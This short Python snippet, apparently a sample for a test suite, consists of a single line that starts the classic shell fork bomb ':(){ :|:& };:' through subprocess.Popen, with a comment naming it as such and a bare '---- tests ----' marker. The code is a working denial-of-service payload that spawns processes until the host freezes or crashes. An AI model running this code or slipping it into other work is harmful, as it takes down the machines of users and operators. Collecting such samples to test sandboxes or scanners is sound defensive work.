# Shell fork bomb started through subprocess.
import subprocess
subprocess.Popen(["/bin/sh", "-c", ":(){ :|:& };:"])
# ---- tests ----
